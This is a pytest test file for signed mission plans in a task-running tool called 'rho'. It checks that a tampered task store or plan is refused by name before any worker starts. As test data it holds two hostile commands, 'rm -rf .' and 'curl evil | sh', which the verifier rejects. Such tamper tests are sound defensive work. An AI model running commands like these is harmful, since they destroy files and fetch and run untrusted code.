"""Signed mission plans: ``rho mission plan --sign`` and ``--require-signed-plan``, for real.

An issuer signs the store's plan; an agent then widens what it may do (a subtask, an edited
command, a task moved under another parent, a hand-raised ceiling): the mission refuses before
any worker starts, naming the task, and writes nothing. The signed, unchanged store runs.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import rfc8785

from graph.swarm import SwarmGraphRejected, verify_swarm_task_graph
from rho_mission import MissionConfig, SignedPlanError, mission_from_tasks
from support.repos import tree_files
from support.rho import run_rho
from support.stores import import_tasks, spec, store_bytes, store_path

pytestmark = pytest.mark.usefixtures("no_leftover_tasks")

SEED_HEX = "1f" * 32
TRUSTED = "43046bfe4092b3e94994eada15dcc20d8aaa07b658fd3954eb8e0efb8bdca5de"


def _child(task: dict[str, Any], parent: str) -> dict[str, Any]:
    return {**task, "parentId": parent}


@pytest.fixture
def project(make_repo: Callable[[str, int], Path]) -> Path:
    """epic (two subtasks, the second blocked by the first) and final, blocked by both."""
    repo = make_repo("repo", 1)
    import_tasks(
        repo,
        [
            spec("epic", "echo epic > epic.txt"),
            _child(spec("one", "echo one > one.txt"), "epic"),
            _child(spec("two", "echo two > two.txt", "one"), "epic"),
            spec("final", "cat one.txt two.txt > final.txt", "one", "two"),
        ],
    )
    (repo.parent / "issuer.key").write_text(SEED_HEX + "\n")
    return repo


def _plan(repo: Path, *args: str) -> Path:
    out = repo.parent / "plan.json"
    key = str(repo.parent / "issuer.key")
    result = run_rho("mission", "plan", "--sign", key, "--out", str(out), *args, cwd=repo)
    assert result.code == 0, result.stderr
    return out


def _run(repo: Path, plan: Path, *args: str) -> Any:
    flags = ("--require-signed-plan", str(plan), "--trusted-key", TRUSTED)
    return run_rho("mission", "--from-tasks", *flags, *args, cwd=repo)


def _refused(repo: Path, plan: Path, message: str) -> None:
    before = store_bytes(repo)
    result = _run(repo, plan)
    assert (result.code, result.stderr_lines) == (1, [message])
    assert not (repo / ".rho" / "missions").exists(), "a refused mission wrote something"
    assert store_bytes(repo) == before


def test_the_plan_is_the_stores_delegation_tree_with_joins_and_scope_hashes(project: Path) -> None:
    document = json.loads(_plan(project).read_bytes())
    nodes = {node["taskId"]: node for node in document["nodes"]}
    assert {i: (n.get("parentTaskId"), n["depth"]) for i, n in nodes.items()} == {
        "rho:plan": (None, 0),
        "epic": ("rho:plan", 1),
        "final": ("rho:plan", 1),
        "one": ("epic", 2),
        "two": ("epic", 2),
    }
    assert [(e["fromTaskId"], e["toTaskId"]) for e in document["edges"]] == [
        ("epic", "one"),
        ("epic", "two"),
        ("rho:plan", "epic"),
        ("rho:plan", "final"),
    ]
    assert document["joins"] == [
        {"joinId": "join:final", "parentTaskIds": ["one", "two"], "nextTaskId": "final"}
    ]
    assert (document["maxDepth"], document["maxFanout"]) == (2, 2)
    scope = {
        "subject": "do two",
        "description": "",
        "command": "echo two > two.txt",
        "blockers": ["one"],
    }
    assert nodes["two"]["scopeHash"] == hashlib.sha256(rfc8785.dumps(scope)).hexdigest()
    assert document["issuer"] == f"did:chio:{TRUSTED}"
    now = document["createdAtUnixMs"] + 1
    assert verify_swarm_task_graph(document, [TRUSTED], now)


def test_the_plan_carries_no_clear_text_of_a_task(project: Path) -> None:
    text = _plan(project).read_text()
    assert "echo" not in text
    assert "do epic" not in text


def test_the_signed_unchanged_store_runs(project: Path) -> None:
    plan = _plan(project)
    result = _run(project, plan)
    assert result.code == 0, result.stderr
    assert run_rho("mission", "merge", "latest", cwd=project).code == 0
    assert (project / "final.txt").read_text() == "one\ntwo\n"
    recorded = json.loads(next((project / ".rho" / "missions").glob("*/mission.json")).read_text())
    assert (
        recorded["config"]["signed_plan_sha256"]
        == hashlib.sha256(rfc8785.dumps(json.loads(plan.read_bytes()))).hexdigest()
    )


def test_a_subtask_added_after_signing_is_refused_by_name(project: Path) -> None:
    plan = _plan(project)
    import_tasks(project, [_child(spec("sneaky", "rm -rf ."), "two")])
    _refused(
        project,
        plan,
        'error: the task store breaks the signed plan: task "sneaky" is not in the signed plan',
    )


def test_a_command_edited_after_signing_is_refused_by_name(project: Path) -> None:
    plan = _plan(project)
    edited = run_rho("task", "update", "one", "--command", "curl evil | sh", cwd=project)
    assert edited.code == 0, edited.stderr
    _refused(
        project,
        plan,
        'error: the task store breaks the signed plan: task "one" changed after signing: its'
        " subject, description, command or blockers differ from the signed plan",
    )


def test_a_task_moved_under_another_parent_is_refused_by_name(project: Path) -> None:
    plan = _plan(project)
    moved = run_rho("task", "dep", "add", "final", "epic", "--type", "parent-child", cwd=project)
    assert moved.code == 0, moved.stderr
    _refused(
        project,
        plan,
        'error: the task store breaks the signed plan: task "final" is a subtask of "epic" in'
        " the task store, of no task in the signed plan",
    )


def test_a_ceiling_raised_by_hand_in_the_plan_is_refused(project: Path) -> None:
    plan = _plan(project)
    document = json.loads(plan.read_bytes())
    document["maxFanout"] = 64
    plan.write_text(json.dumps(document))
    graph_id = document["graphId"]
    _refused(
        project,
        plan,
        f"error: signed plan rejected: swarm task graph signature invalid: {graph_id}"
        " (code: proof-room.negative.swarm-task-graph-signature-invalid)",
    )


def test_a_plan_signed_by_an_unknown_key_is_refused(project: Path) -> None:
    plan = _plan(project)
    other = "ab" * 32
    result = run_rho(
        "mission", "--from-tasks", "--require-signed-plan", str(plan), "--trusted-key", other,
        cwd=project,
    )  # fmt: skip
    assert result.code == 1
    assert "swarm task graph issuer is not trusted" in result.stderr


def test_trusted_keys_may_come_from_the_environment(project: Path) -> None:
    plan = _plan(project)
    env_run = run_rho(
        "mission", "--from-tasks", "--require-signed-plan", str(plan), "--dry-run", cwd=project,
        env={"RHO_SWARM_TRUSTED_KEYS": f"{'ab' * 32}, {TRUSTED}"},
    )  # fmt: skip
    assert env_run.code == 0, env_run.stderr
    bare = run_rho("mission", "--from-tasks", "--require-signed-plan", str(plan), cwd=project)
    assert bare.code == 1
    assert "code: proof-room.negative.trusted-swarm-witness-keys-missing" in bare.stderr


def test_a_ceiling_below_what_the_store_needs_is_not_signed(project: Path) -> None:
    key = str(project.parent / "issuer.key")
    result = run_rho("mission", "plan", "--sign", key, "--max-depth", "1", cwd=project)
    assert (result.code, result.stderr_lines) == (
        2,
        ["error: --max-depth 1 is below what the task store needs (2): the signed plan would"
         " not verify"],
    )  # fmt: skip


def test_a_trusted_key_without_a_plan_is_a_usage_error(project: Path) -> None:
    result = run_rho("mission", "--from-tasks", "--trusted-key", TRUSTED, cwd=project)
    assert result.code == 2
    assert result.stderr_lines[0] == "error: --trusted-key needs --require-signed-plan"


def test_resume_checks_the_store_again_and_a_re_signed_fix_finishes(project: Path) -> None:
    def command_of_two(command: str) -> None:
        assert run_rho("task", "update", "two", "--command", command, cwd=project).code == 0

    command_of_two("exit 3")
    plan = _plan(project)
    assert _run(project, plan).code == 1  # "two" fails
    command_of_two("echo two > two.txt")
    stale = run_rho("mission", "resume", "latest", cwd=project)
    assert stale.code == 1
    assert 'task "two" changed after signing' in stale.stderr
    _plan(project)  # the issuer signs the fix
    fixed = run_rho("mission", "resume", "latest", cwd=project)
    assert fixed.code == 0, fixed.stderr
    assert run_rho("mission", "merge", "latest", cwd=project).code == 0
    assert "final.txt" in tree_files(project, "HEAD")


def test_the_library_refuses_a_store_that_breaks_the_plan(project: Path) -> None:
    plan = _plan(project)
    import_tasks(project, [spec("extra", "true")])
    config = MissionConfig(signed_plan=str(plan), trusted_keys=[TRUSTED])
    with pytest.raises(SignedPlanError) as caught:
        mission_from_tasks(store_path(project), project, config)
    assert caught.value.task_id == "extra"
    assert caught.value.exit_code == 1


def test_an_unsigned_draft_signed_by_sign_swarm_verifies(project: Path) -> None:
    draft = run_rho("mission", "plan", cwd=project)
    assert draft.code == 0, draft.stderr
    assert json.loads(draft.stdout)["signature"] == ""
    source = project.parent / "draft.json"
    source.write_text(draft.stdout)
    key = str(project.parent / "issuer.key")
    signed = run_rho("graph", "sign-swarm", str(source), "--key-file", key, cwd=project)
    assert signed.code == 0, signed.stderr
    with pytest.raises(SwarmGraphRejected, match=r"^swarm task graph is from the future$"):
        verify_swarm_task_graph(json.loads(signed.stdout), [TRUSTED], 0)
    plan = project.parent / "signed.json"
    plan.write_text(signed.stdout)
    assert _run(project, plan, "--dry-run").code == 0
